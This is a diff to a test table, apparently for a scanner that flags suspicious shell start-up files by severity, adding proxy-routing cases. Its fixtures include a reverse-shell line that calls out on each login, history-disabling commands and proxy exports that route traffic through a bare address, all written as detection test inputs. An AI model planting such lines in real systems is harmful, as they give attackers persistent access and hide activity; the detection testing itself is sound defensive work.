@@ -35,6 +35,13 @@ test.each<[string, Machine, string[]]>([
 	['a start-up file that lay deeper in hidden places and is gone', { '/home/ann/.bashrc': own('export PYTHONSTARTUP=~/.gnome/.p.py\n') }, ['medium /home/ann/.bashrc']],
 	['a start-up file that lay in shared memory and is gone', { '/home/ann/.bashrc': own('export PYTHONSTARTUP=/dev/shm/.p.py\n') }, ['high /home/ann/.bashrc']],
 	['a hidden shell that is gone', { '/home/ann/.bashrc': own('export SHELL=~/.sh\n') }, ['medium /home/ann/.bashrc']],
+	['all traffic by way of a bare address', { '/etc/profile.d/proxy.sh': 'export ALL_PROXY=socks5h://203.0.113.9:1080\n' }, ['info /etc/profile.d/proxy.sh', 'medium /etc/profile.d/proxy.sh']],
+	['all that root fetches by way of a bare address', { '/root/.bashrc': 'export https_proxy="http://user:secret@203.0.113.9:3128/"\n' }, ['medium /root/.bashrc']],
+	["one person's, by way of a bare address", { '/home/ann/.bashrc': own('export http_proxy=203.0.113.9:3128\n') }, ['low /home/ann/.bashrc']],
+	['proxies by name, and of our own networks', {
+		'/etc/profile.d/gawk.sh': 'export http_proxy=http://proxy.example.org:3128 https_proxy=http://10.0.0.3:3128\nexport ALL_PROXY=socks5://127.0.0.1:9050\nexport ftp_proxy=\nexport HTTPS_PROXY=http://100.64.0.1:8080\nexport no_proxy=203.0.113.9\nexport RSYNC_PROXY=$PROXY:3128\n',
+		'/home/ann/.bashrc': own('export http_proxy="http://[fd00::1]:3128"\nexport https_proxy=192.168.0.1:3128\n'),
+	}, []],
 	['no history is kept', { '/root/.bashrc': 'unset HISTFILE\n' }, ['medium /root/.bashrc']],
 	['no history of anybody', { '/etc/profile.d/gawk.sh': 'export HISTFILE=/dev/null\n' }, ['medium /etc/profile.d/gawk.sh']],
 	['a shell is handed out at each login', { '/etc/profile.d/x.sh': '(bash -i >& /dev/tcp/192.0.2.1/4 0>&1 &)\n' }, ['critical /etc/profile.d/x.sh']],
